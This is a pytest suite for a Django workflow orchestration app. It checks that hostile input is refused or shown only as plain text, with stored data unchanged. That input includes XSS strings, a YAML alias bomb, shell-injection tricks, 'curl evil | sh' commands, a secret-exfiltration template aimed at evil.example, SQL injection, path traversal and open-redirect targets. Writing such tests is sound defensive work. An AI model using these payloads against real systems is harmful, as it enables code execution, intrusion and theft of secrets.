"""Hostile input: each gets a short, clear answer, and nothing stored changes.

Every case was once a 500, a reflected script, or minutes of CPU and
hundreds of megabytes for one request.
"""

from __future__ import annotations

import html
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from runs.models import Run
from tests.conftest import make_workflow, queued_run
from workflows.models import Secret, Step, Workflow

NIGHTLY = """
slug: nightly
name: Nightly
description: Builds the report.
params:
  - {name: n, type: int, default: 3}
steps:
  - {key: build, kind: shell, command: ./build.sh}
"""
SMALL = 20_000  # bytes: every answer here is a page or less, whatever was sent
HTMX = {"HTTP_HX_REQUEST": "true"}
BIG_NUMBER = "9" * 5000  # past Python's int-string conversion limit (4,300 digits)


@pytest.fixture
def nightly(db):
    return make_workflow(NIGHTLY)


def stored() -> list:
    """Everything a refused request must leave as it was."""
    return [
        list(Workflow.objects.order_by("slug").values()),
        list(Step.objects.order_by("id").values()),
        Run.objects.count(),
        list(Secret.objects.values_list("workflow", "name", "encrypted")),
    ]


def text_of(response) -> str:
    return html.unescape(response.content.decode())


def import_file(client, name: str, content: bytes):
    upload = SimpleUploadedFile(name, content, content_type="application/yaml")
    return client.post("/workflows/import", {"file": upload}, follow=True)


def alias_bomb() -> str:
    """665 bytes that stood for 9**7 values: each list repeats the one before nine times."""
    anchors = ["  a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 7):
        anchors.append(f"  a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    return (
        "slug: bomb\nparams:\n  - name: n\n    type: int\n    default:\n      anchors:\n"
        + "\n".join("      " + line for line in anchors)
        + "\nsteps: [{key: a, kind: shell, command: 'true'}]\n"
    )


# Reflected values


def test_it_answers_an_unknown_kind_on_the_step_form_as_plain_text(alice_client, nightly):
    before = stored()

    response = alice_client.get(
        "/workflows/nightly/steps/new", {"kind": "<script>alert(1)</script>"}
    )

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content.decode() == (
        "Unknown step kind '<script>alert(1)</script>'; use shell, http, wait, approval, workflow."
    )
    assert stored() == before


def test_it_answers_an_unknown_kind_on_save_as_plain_text_cut_short(alice_client, nightly):
    before = stored()
    kind = "<img src=x onerror=alert(1)>" + "x" * 100_000

    response = alice_client.post(
        "/workflows/nightly/steps/add", {"version": "1", "kind": kind, "key": "evil"}, **HTMX
    )

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == (
        "Unknown step kind '<img src=x onerror=alert(1)>xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'… "
        "(100,028 characters); use shell, http, wait, approval, workflow."
    )
    assert stored() == before


# YAML files: aliases, size, depth, numbers


def test_it_refuses_an_alias_bomb_naming_the_limit(alice_client, nightly):
    bomb = alias_bomb().encode()
    before = stored()

    response = import_file(alice_client, "bomb.yaml", bomb)

    assert len(bomb) < 700
    assert response.status_code == 200
    assert response.redirect_chain == [("/workflows/", 302)]
    assert "bomb.yaml: line 12: more than 100,000 values once aliases are expanded" in (
        text_of(response)
    )
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_refuses_an_alias_that_contains_itself(alice_client, nightly):
    before = stored()

    response = import_file(
        alice_client, "loop.yaml", b"slug: loop\ndescription: &d [a, *d]\nsteps: []\n"
    )

    assert "loop.yaml: line 2: an alias refers to the value that contains it" in text_of(response)
    assert stored() == before


def test_it_refuses_a_file_over_one_mebibyte(alice_client, nightly):
    big = b"slug: nightly\ndescription: " + b"x" * (1024 * 1024) + b"\n"
    before = stored()

    response = import_file(alice_client, "big.yaml", big)

    assert (
        f"big.yaml: {len(big):,} bytes; "
        "a workflow file may be at most 1,048,576 bytes (1 MiB)." in text_of(response)
    )
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_refuses_a_description_over_its_limit_and_keeps_the_workflow(alice_client, nightly):
    source = NIGHTLY.replace("Builds the report.", "x" * 10_001).encode()
    before = stored()

    response = import_file(alice_client, "nightly.yaml", source)

    assert "nightly.yaml: description: must be at most 10,000 characters" in text_of(response)
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_refuses_a_command_over_64_kib(alice_client, nightly):
    source = NIGHTLY.replace("./build.sh", "x" * 65_537).encode()
    before = stored()

    response = import_file(alice_client, "nightly.yaml", source)

    assert "nightly.yaml: step build.command: must be at most 65,536 characters" in (
        text_of(response)
    )
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_refuses_more_steps_than_the_setting_allows(alice_client, nightly, settings):
    settings.ORCH_MAX_STEPS = 3
    steps = "\n".join(f"  - {{key: s{n}, kind: shell, command: 'true'}}" for n in range(4))
    before = stored()

    response = import_file(alice_client, "many.yaml", f"slug: many\nsteps:\n{steps}\n".encode())

    assert (
        "many.yaml: steps: 4 steps: a workflow has at most 3 (the ORCH_MAX_STEPS setting)"
        in text_of(response)
    )
    assert stored() == before


def test_it_refuses_yaml_nested_thousands_deep(alice_client, nightly):
    deep = b"slug: deep\ndescription: " + b"[" * 5000 + b"]" * 5000 + b"\n"
    before = stored()

    response = import_file(alice_client, "deep.yaml", deep)

    assert "deep.yaml: line 2: nested more than 20 levels deep; a workflow needs a few" in (
        text_of(response)
    )
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_counts_the_depth_of_aliases_as_if_they_were_copies(alice_client, nightly):
    deep = "slug: deep\na: &a " + "[" * 12 + "x" + "]" * 12 + "\nb: " + "[" * 10 + "*a" + "]" * 10
    before = stored()

    response = import_file(alice_client, "deep.yaml", deep.encode())

    assert "deep.yaml: line 3: nested more than 20 levels deep once aliases are expanded" in (
        text_of(response)
    )
    assert stored() == before


def test_it_refuses_a_five_thousand_digit_number(alice_client, nightly):
    source = NIGHTLY.replace("default: 3", f"default: {BIG_NUMBER}").encode()
    before = stored()

    response = import_file(alice_client, "nightly.yaml", source)

    assert "nightly.yaml: line 6: a number of more than 30 digits" in text_of(response)
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_refuses_numbers_no_column_holds(alice_client, nightly):
    source = (NIGHTLY + "max_concurrent_runs: 100000000000000000000\n").replace(
        "default: 3", "default: 10000000000000000000"
    )
    before = stored()

    page = text_of(import_file(alice_client, "nightly.yaml", source.encode()))

    assert (
        "nightly.yaml: params.n.default: 10000000000000000000 is out of range: "
        "a whole number from -9223372036854775808 to 9223372036854775807" in page
    )
    assert (
        "nightly.yaml: max_concurrent_runs: must be a whole number from 0 to 10,000, "
        "0 for no limit" in page
    )
    assert stored() == before


def test_it_refuses_a_date_yaml_cannot_build_and_a_number_as_a_field(alice_client, nightly):
    before = stored()

    page = text_of(
        import_file(alice_client, "odd.yaml", b"slug: odd\ndescription: 2026-13-45\n1: x\n")
    )

    assert (
        "odd.yaml: line 2: not valid YAML: '2026-13-45' is not a date: month must be in 1..12"
        in (page)
    )
    assert stored() == before
    page = text_of(import_file(alice_client, "odd.yaml", b"slug: odd\n1: x\n"))
    assert "odd.yaml: 1: unknown field; expected one of slug, name" in page
    assert stored() == before


def test_the_import_command_applies_the_same_limits(nightly, tmp_path):
    (tmp_path / "bomb.yaml").write_text(alias_bomb())
    (tmp_path / "big.yaml").write_bytes(b"slug: big\ndescription: " + b"x" * (1024 * 1024))
    before = stored()
    errors = StringIO()

    with pytest.raises(CommandError, match=r"^2 of 2 file\(s\) not imported$"):
        call_command("import_workflows", str(tmp_path), stderr=errors, stdout=StringIO())

    assert errors.getvalue().splitlines() == [
        f"{tmp_path}/big.yaml: 1,048,599 bytes; "
        "a workflow file may be at most 1,048,576 bytes (1 MiB)",
        f"{tmp_path}/bomb.yaml: line 12: more than 100,000 values once aliases are expanded",
    ]
    assert stored() == before


# The editor and the pages


def test_the_editor_refuses_a_step_over_the_limits_beside_its_fields(
    alice_client, nightly, settings
):
    settings.ORCH_MAX_STEPS = 1
    before = stored()

    response = alice_client.post(
        "/workflows/nightly/steps/add",
        {"version": "1", "kind": "shell", "key": "more", "command": "x" * 65_537},
        **HTMX,
    )

    page = text_of(response)
    assert response.status_code == 200
    assert "steps: 2 steps: a workflow has at most 1 (the ORCH_MAX_STEPS setting)" in page
    assert len(response.content) < SMALL + 65_537 * 2  # the refused command is kept in its field
    assert stored() == before


def test_the_editor_refuses_a_long_command_and_description(alice_client, nightly):
    before = stored()

    step = alice_client.post(
        "/workflows/nightly/steps/build/save",
        {"version": "1", "kind": "shell", "key": "build", "command": "x" * 65_537},
        **HTMX,
    )
    settings = alice_client.post(
        "/workflows/nightly/settings",
        {"version": "1", "name": "Nightly", "description": "x" * 10_001},
        **HTMX,
    )

    assert step.status_code == 200
    assert "must be at most 65,536 characters" in text_of(step)
    assert settings.status_code == 200
    assert "must be at most 10,000 characters" in text_of(settings)
    assert stored() == before


def test_it_refuses_a_new_workflow_name_over_200_characters(alice_client, nightly):
    before = stored()

    response = alice_client.post("/workflows/new", {"name": "n" * 201})

    assert response.status_code == 400
    assert "A workflow name has at most 200 characters; this one has 201." in text_of(response)
    assert len(response.content) < SMALL
    assert stored() == before


def test_it_duplicates_a_workflow_whose_name_is_already_200_characters(alice_client, db):
    make_workflow({"slug": "long", "name": "L" * 200})

    response = alice_client.post("/workflows/long/duplicate")

    assert response.status_code == 302
    copy = Workflow.objects.get(slug="long-copy")
    assert copy.name == "Copy of " + "L" * 191 + "…"
    assert len(copy.name) == 200


def test_the_run_form_refuses_a_five_thousand_digit_number(alice_client, nightly, no_executor):
    before = stored()

    response = alice_client.post("/workflows/nightly/run", {"n": BIG_NUMBER, "token": "t"})

    assert response.status_code == 200
    assert (
        f"'{'9' * 60}'… (5,000 characters) is out of range: "
        "a whole number from -9223372036854775808 to 9223372036854775807" in text_of(response)
    )
    assert len(response.content) < SMALL
    assert stored() == before


def test_run_workflow_refuses_a_five_thousand_digit_number(nightly):
    before = stored()

    with pytest.raises(CommandError) as refused:
        call_command("run_workflow", "nightly", "--param", f"n={BIG_NUMBER}")

    assert str(refused.value) == (
        f"bad parameters: n: '{'9' * 60}'… (5,000 characters) is out of range: "
        "a whole number from -9223372036854775808 to 9223372036854775807"
    )
    assert stored() == before


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("until=9999-12-31", "until: must be a day from 1900-01-01 to 9998-12-31"),
        ("since=0001-01-01", "since: must be a day from 1900-01-01 to 9998-12-31"),
        ("status=" + "x" * 5000, "status: unknown value '" + "x" * 60 + "'… (5,000 characters)"),
    ],
)
def test_the_run_history_names_a_far_or_odd_filter(alice_client, nightly, query, message):
    response = alice_client.get(f"/runs/?{query}")

    assert response.status_code == 200
    assert message in text_of(response)
    assert len(response.content) < SMALL


@pytest.mark.parametrize("cursor", ["before=²", "before=" + BIG_NUMBER])
def test_the_run_history_ignores_a_cursor_that_is_no_run_id(alice_client, nightly, cursor):
    response = alice_client.get(f"/workflows/nightly/runs/?{cursor}")

    assert response.status_code == 200
    assert "No runs" in text_of(response)


@pytest.mark.parametrize("number", ["line=²", "match=²&q=a", "before=" + BIG_NUMBER])
def test_the_log_view_ignores_a_number_that_is_no_number(alice_client, nightly, number):
    run = queued_run(nightly)

    response = alice_client.get(f"/runs/{run.pk}/steps/build/log?{number}")

    assert response.status_code == 200
    assert "<code>build</code> log" in text_of(response)


def test_a_rerun_from_an_unknown_step_quotes_it_cut_short(alice_client, nightly):
    run = queued_run(nightly)
    Run.objects.filter(pk=run.pk).update(status="failed")
    before = stored()

    response = alice_client.post(
        f"/runs/{run.pk}/rerun", {"from_step": "<b>" + "x" * 100_000, "token": "t"}, follow=True
    )

    assert response.status_code == 200
    assert (
        "Nothing was started: run #1 has no step '<b>" + "x" * 57 + "'… (100,003 characters)."
    ) in text_of(response)
    assert "<b>x" not in response.content.decode()
    assert len(response.content) < SMALL
    assert stored() == before


def test_the_settings_form_refuses_a_limit_no_column_holds(alice_client, nightly):
    before = stored()

    response = alice_client.post(
        "/workflows/nightly/settings",
        {"version": "1", "name": "Nightly", "max_concurrent_runs": "9" * 30},
        **HTMX,
    )

    assert response.status_code == 200
    assert "must be a whole number from 0 to 10,000, 0 for no limit" in text_of(response)
    assert stored() == before


def test_the_run_form_refuses_a_text_value_over_its_limit(alice_client, db, no_executor):
    make_workflow({"slug": "greet", "params": [{"name": "who"}], "steps": []})
    before = stored()

    response = alice_client.post("/workflows/greet/run", {"who": "x" * 10_001, "token": "t"})

    assert response.status_code == 200
    assert "must be at most 10,000 characters" in text_of(response)
    assert stored() == before


def test_it_says_why_a_workflow_saved_before_the_limits_cannot_be_copied(alice_client, db):
    Workflow.objects.create(slug="old", name="Old", description="x" * 20_000)
    before = stored()

    response = alice_client.post("/workflows/old/duplicate", follow=True)

    assert response.redirect_chain == [("/workflows/old/", 302)]
    assert "“Old” cannot be copied: description: must be at most 10,000 characters" in (
        text_of(response)
    )
    assert stored() == before


# Tags, URLs, aliased text, characters no database keeps


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ('!!timestamp "99999-01-01"', "'99999-01-01' is not a date"),
        ("!!bool maybe", "'maybe' is not true or false"),
        ('!!int ""', "'' is not a whole number"),
        ('!!float ""', "'' is not a number"),
    ],
)
def test_it_names_a_tagged_value_its_type_cannot_build(alice_client, nightly, value, message):
    before = stored()

    page = text_of(import_file(alice_client, "tag.yaml", f"slug: tag\nname: {value}\n".encode()))

    assert f"tag.yaml: line 2: not valid YAML: {message}" in page
    assert stored() == before


ODD_URLS = ["http://[::1", "http://a\uff03b/"]


@pytest.mark.parametrize("url", ODD_URLS)
def test_it_names_a_url_that_cannot_be_read(alice_client, nightly, url):
    source = f'slug: odd\nsteps: [{{key: call, kind: http, url: "{url}"}}]\n'
    before = stored()

    page = text_of(import_file(alice_client, "odd.yaml", source.encode()))

    assert "odd.yaml: step call.url: is not a valid URL" in page
    assert stored() == before


@pytest.mark.parametrize("url", ODD_URLS)
def test_the_editor_names_a_url_that_cannot_be_read_beside_the_field(alice_client, nightly, url):
    before = stored()

    response = alice_client.post(
        "/workflows/nightly/steps/add",
        {"version": "1", "kind": "http", "key": "call", "method": "GET", "url": url},
        **HTMX,
    )

    assert response.status_code == 200
    assert '<small class="field-error">is not a valid URL</small>' in response.content.decode()
    assert stored() == before


def test_the_import_command_names_a_url_that_cannot_be_read(nightly, tmp_path):
    (tmp_path / "odd.yaml").write_text(
        'slug: odd\nsteps: [{key: call, kind: http, url: "http://[::1"}]\n'
    )
    (tmp_path / "tag.yaml").write_text("slug: tag\nname: !!bool maybe\n")
    before = stored()
    errors = StringIO()

    with pytest.raises(CommandError, match=r"^2 of 2 file\(s\) not imported$"):
        call_command("import_workflows", str(tmp_path), stderr=errors, stdout=StringIO())

    assert errors.getvalue().splitlines() == [
        f"{tmp_path}/odd.yaml: step call.url: is not a valid URL",
        f"{tmp_path}/tag.yaml: line 2: not valid YAML: 'maybe' is not true or false",
    ]
    assert stored() == before


LONG = "x" * 65_536


@pytest.mark.parametrize(
    "step",
    [
        "{kind: shell, command: *long}",
        "{kind: http, url: 'https://example.com/', headers: {X-Long: *long}}",
    ],
)
def test_it_refuses_one_long_text_aliased_a_thousand_times(alice_client, nightly, settings, step):
    settings.ORCH_MAX_STEPS = 1000
    steps = "\n".join(f"  - {{key: s{n}, {step[1:]}" for n in range(1000))
    source = f"slug: big\ndescription: &long {LONG}\nsteps:\n{steps}\n".encode()
    before = stored()

    response = import_file(alice_client, "big.yaml", source)

    assert len(source) < 150_000
    assert (
        "big.yaml: line 4: more than 1,048,576 bytes of text once aliases are expanded; "
        "a workflow may be at most 1 MiB" in text_of(response)
    )
    assert len(response.content) < SMALL
    assert stored() == before


def test_the_editor_refuses_a_step_that_takes_the_workflow_past_1_mib(alice_client, db):
    make_workflow(
        {
            "slug": "big",
            "steps": [{"key": f"s{n}", "kind": "shell", "command": LONG} for n in range(15)],
        }
    )
    before = stored()

    response = alice_client.post(
        "/workflows/big/steps/add",
        {"version": "1", "kind": "shell", "key": "one-more", "command": LONG},
        **HTMX,
    )

    assert response.status_code == 200
    assert (
        '<p class="field-error" role="alert">workflow: its text comes to 1,050,882 bytes once '
        "aliases are expanded; a workflow may be at most 1 MiB (1,048,576 bytes)</p>"
    ) in response.content.decode()
    assert stored() == before


UNSTORABLE = "holds a NUL character or an unpaired surrogate; neither can be stored"


@pytest.mark.parametrize(
    ("source", "where"),
    [
        (
            'slug: odd\nsteps: [{key: say, kind: shell, command: "echo \\udc80"}]',
            "step say.command",
        ),
        ('slug: odd\nname: "\\ud800"', "name"),
        ('slug: odd\nname: "a\\0b"', "name"),
        ('slug: odd\nparams: [{name: who, default: "a\\0"}]', "params[1].default"),
        ('slug: odd\nsteps: [{key: say, kind: shell, command: "echo \\0"}]', "step say.command"),
    ],
)
def test_it_refuses_nul_and_lone_surrogates_in_a_file(alice_client, nightly, source, where):
    before = stored()

    page = text_of(import_file(alice_client, "odd.yaml", source.encode()))

    assert f"odd.yaml: {where}: {UNSTORABLE}" in page
    assert stored() == before


@pytest.mark.parametrize(
    ("method", "url", "data", "field"),
    [
        (
            "post",
            "/workflows/nightly/steps/build/save",
            {"version": "1", "kind": "shell", "key": "build", "command": "./build.sh\0"},
            "'command'",
        ),
        ("post", "/workflows/nightly/settings", {"version": "1", "name": "Night\0ly"}, "'name'"),
        ("post", "/workflows/new", {"name": "New\0"}, "'name'"),
        ("post", "/workflows/nightly/run", {"n": "1", "token": "t\0"}, "'token'"),
        ("post", "/workflows/nightly/run", {"n\0": "1"}, "'n\\x00'"),
        ("get", "/workflows/?q=Night%00ly", None, "'q'"),
        ("get", "/runs/?workflow=night%00ly", None, "'workflow'"),
    ],
)
def test_a_form_or_query_holding_nul_is_refused_with_the_reason(
    alice_client, nightly, no_executor, method, url, data, field
):
    # PostgreSQL refuses any query holding NUL: each of these was a 500 there.
    before = stored()

    response = getattr(alice_client, method)(url, data, **HTMX)

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == (
        f"The field {field} holds a NUL character, which no field accepts."
    )
    assert stored() == before


def test_run_workflow_refuses_a_value_that_cannot_be_stored(alice_client, db, no_executor):
    make_workflow({"slug": "greet", "params": [{"name": "who"}], "steps": []})
    before = stored()

    with pytest.raises(CommandError) as refused:
        call_command("run_workflow", "greet", "--param", "who=\udc80")

    assert str(refused.value) == f"bad parameters: who: {UNSTORABLE}"
    assert stored() == before


def test_the_settings_form_says_when_defaults_take_the_workflow_past_1_mib(alice_client, db):
    make_workflow(
        {
            "slug": "big",
            "steps": [{"key": f"s{n}", "kind": "shell", "command": LONG} for n in range(15)],
        }
    )
    before = stored()
    post = {"version": "1", "name": "Big"}
    for n in range(7):
        post |= {f"param-{n}-name": f"p{n}", f"param-{n}-type": "string"}
        post[f"param-{n}-default"] = "d" * 10_000

    response = alice_client.post("/workflows/big/settings", post, **HTMX)

    assert response.status_code == 200
    assert (
        '<p class="field-error" role="alert">workflow: its text comes to 1,055,429 bytes once '
        "aliases are expanded; a workflow may be at most 1 MiB (1,048,576 bytes)"
    ) in response.content.decode()
    assert stored() == before


# Roles: a person reaching past their role is refused, and nothing changes.


@pytest.fixture
def intruders(nightly, django_user_model):
    """An operator of nightly, and an editor of another workflow only."""
    from orchestrator_site.accounts.models import Grant, Role

    other = make_workflow({"slug": "other", "name": "Other"})
    operator = django_user_model.objects.create_user("olga")
    Grant.objects.create(user=operator, workflow=nightly, role=Role.OPERATOR)
    outsider = django_user_model.objects.create_user("otto")
    Grant.objects.create(user=outsider, workflow=other, role=Role.EDITOR)
    return operator, outsider


@pytest.mark.parametrize(
    ("who", "path", "data", "status"),
    [
        # An operator changing the command a run will execute.
        ("operator", "/workflows/nightly/steps/build/save",
         {"version": "1", "kind": "shell", "key": "build", "command": "curl evil | sh"}, 403),
        ("operator", "/workflows/nightly/settings", {"version": "1", "name": "Mine"}, 403),
        ("operator", "/workflows/nightly/delete", {}, 403),
        ("operator", "/workflows/nightly/secrets", {"name": "X_TOKEN", "value": "v"}, 403),
        ("operator", "/secrets/", {"name": "X_TOKEN", "value": "v"}, 403),
        # An editor of another workflow replacing nightly through an import:
        # refused as the creation it looks like, without saying nightly exists.
        ("outsider", "/workflows/import",
         {"content": NIGHTLY.replace("./build.sh", "curl evil | sh"), "replacing": "1"}, 403),
        ("outsider", "/workflows/nightly/run", {"token": "t"}, 404),
        ("outsider", "/workflows/nightly/duplicate", {}, 404),
    ],
)  # fmt: skip
def test_a_person_reaching_past_their_role_changes_nothing(
    client, intruders, who, path, data, status
):
    operator, outsider = intruders
    client.force_login(operator if who == "operator" else outsider)
    before = stored()

    response = client.post(path, data)

    assert response.status_code == status
    assert "nightly" not in response.content.decode()  # not even that it exists
    assert "curl evil" not in response.content.decode()
    assert stored() == before


# Attacks through what a run is given, what it prints, and the pages' own addresses.

SHELL_TRICKS = [
    "$(touch {marker})",
    "`touch {marker}`",
    "x; touch {marker}",
    "x\ntouch {marker}",
    "x' && touch {marker} && echo '",
    'x" && touch {marker} && echo "',
]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("trick", SHELL_TRICKS)
def test_a_parameter_reaches_a_shell_step_as_data_never_as_code(trick, tmp_path, local_executor):
    from tests.conftest import log_text, run_to_end, steps_of

    marker = tmp_path / "pwned"
    value = trick.format(marker=marker)
    workflow = make_workflow(
        {
            "slug": "echo",
            "params": [{"name": "x", "type": "string"}],
            "steps": [{"key": "say", "kind": "shell", "command": 'printf "%s\\n" "$PARAM_X"'}],
        }
    )

    run = run_to_end(workflow, local_executor, x=value)

    assert log_text(steps_of(run)["say"], "stdout") == value.split("\n")
    assert not marker.exists()


@pytest.fixture
def local_executor(transactional_db):
    from runs.executors.local import LocalExecutor

    executor = LocalExecutor(name="test").start(recover=False)
    yield executor
    executor.stop()


@pytest.mark.django_db(transaction=True)
def test_a_placeholder_value_is_filled_once_and_never_read_again(local_executor, settings):
    """A parameter holding {{ secrets.X }} or a host part stays a value of the query."""
    from orchestrator_site.env import allowed_address
    from tests.conftest import log_text, run_to_end, steps_of
    from workflows import secret_store

    settings.ORCH_HTTP_ALLOW = (allowed_address("127.0.0.1"),)
    workflow = make_workflow(
        {
            "slug": "call",
            "params": [{"name": "q", "type": "string"}],
            "steps": [
                {
                    "key": "call",
                    "kind": "http",
                    "url": "http://127.0.0.1:9/?q={{ params.q }}",
                    "secrets": ["API_TOKEN"],
                    "headers": {"X-Q": "{{ params.q }}"},
                }
            ],
        }
    )
    secret_store.put(workflow, "API_TOKEN", "the-real-token")

    run = run_to_end(workflow, local_executor, q="{{ secrets.API_TOKEN }}@evil.example/")

    first = log_text(steps_of(run)["call"], "system")[0]
    assert first == (
        "GET http://127.0.0.1:9/?q=%7B%7B%20secrets.API_TOKEN%20%7D%7D%40evil.example%2F"
    )
    assert "the-real-token" not in repr(list(run.steps.values()))


def test_markup_and_terminal_escapes_in_names_and_logs_are_shown_as_text(alice_client, db):
    from django.utils import timezone

    from runs.models import LogLine, LogStream
    from tests.conftest import steps_of

    workflow = make_workflow(
        {
            "slug": "markup",
            "name": "<script>alert(1)</script>",
            "description": '<img src=x onerror="alert(2)">',
            "params": [{"name": "p", "type": "string", "description": "<b>bold</b>"}],
            "steps": [{"key": "s", "kind": "shell", "command": "echo '<iframe>'"}],
        }
    )
    run = queued_run(workflow, p="<svg onload=alert(3)>")
    LogLine.objects.create(
        step_run=steps_of(run)["s"],
        seq=1,
        ts=timezone.now(),
        stream=LogStream.STDOUT,
        # An OSC 8 hyperlink, a window title, a colour, and markup.
        text="\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b]0;owned\x07"
        "\x1b[31m<script>alert(4)</script>\x1b[0m",
    )

    pages = [
        alice_client.get(path).content.decode()
        for path in (
            "/workflows/",
            "/workflows/markup/",
            f"/runs/{run.pk}/",
            f"/runs/{run.pk}/steps/s/log",
            "/runs/",
        )
    ]

    for page in pages:
        assert "<script>alert" not in page
        assert "<img src=x" not in page and "<svg onload" not in page
        assert "evil.example" not in page and "owned" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[1]
    assert "click" in pages[3] and "&lt;script&gt;alert(4)&lt;/script&gt;" in pages[3]


@pytest.mark.parametrize(
    "path",
    [
        "/runs/{run}/steps/..%2F..%2Fetc%2Fpasswd/log",
        "/runs/{run}/steps/..%2F..%2Fetc%2Fpasswd/log.txt",
        "/runs/{run}/steps/%2e%2e/log.txt",
        "/runs/{run}/steps/build%00/log.txt",
    ],
)
def test_a_log_address_cannot_walk_out_of_its_run(alice_client, nightly, path):
    run = queued_run(nightly)

    response = alice_client.get(path.format(run=run.pk))

    assert response.status_code in (400, 404)
    assert "root:" not in response.content.decode(errors="replace")


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:alert(1)"]
)
def test_logging_in_never_sends_the_browser_to_another_site(client, alice, target):
    response = client.post(
        f"/accounts/login/?next={target}",
        {"username": "alice", "password": "alice-password-1", "next": target},
    )

    assert response.status_code == 302
    assert response["Location"] == "/"


@pytest.mark.parametrize(
    ("path", "query", "found"),
    [
        ("/runs/", {"who": "' OR 1=1 --"}, "No run matches these filters."),
        ("/runs/", {"workflow": "nightly' OR '1'='1"}, "No runs yet."),
        ("/workflows/", {"q": "%' OR '1'='1"}, "No workflow matches “%' OR '1'='1”."),
        (
            "/workflows/nightly/runs/",
            {"log": "'; DROP TABLE runs_logline; --"},
            "No log of this workflow contains “'; DROP TABLE runs_logline; --”.",
        ),
    ],
)
def test_sql_in_a_filter_or_search_is_only_text(alice_client, nightly, path, query, found):
    queued_run(nightly)
    before = stored()

    response = alice_client.get(path, query)

    assert response.status_code == 200
    assert found in text_of(response)
    assert stored() == before


def test_a_cycle_of_needs_is_refused_naming_the_order_rule(alice_client, nightly):
    before = stored()
    cyclic = (
        "slug: loop\nsteps:\n"
        "  - {key: a, kind: shell, command: 'true', needs: [b]}\n"
        "  - {key: b, kind: shell, command: 'true', needs: [a]}\n"
    )

    response = import_file(alice_client, "loop.yaml", cyclic.encode())

    assert (
        "loop.yaml: step a.needs: names 'b', which comes later; a step can only need steps "
        "above it" in text_of(response)
    )
    assert stored() == before


def test_a_file_that_is_not_utf8_is_refused_as_not_text(alice_client, nightly):
    before = stored()

    response = import_file(alice_client, "latin.yaml", "slug: caf\xe9\n".encode("latin-1"))

    assert "latin.yaml: not a text file." in text_of(response)
    assert stored() == before


def test_a_post_without_the_csrf_token_is_refused(alice, nightly):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(alice)
    before = stored()

    responses = [
        client.post("/workflows/nightly/run", {"token": "t"}),
        client.post("/workflows/nightly/delete"),
        client.post("/workflows/new", {"name": "Forged"}),
    ]

    assert [response.status_code for response in responses] == [403, 403, 403]
    assert stored() == before
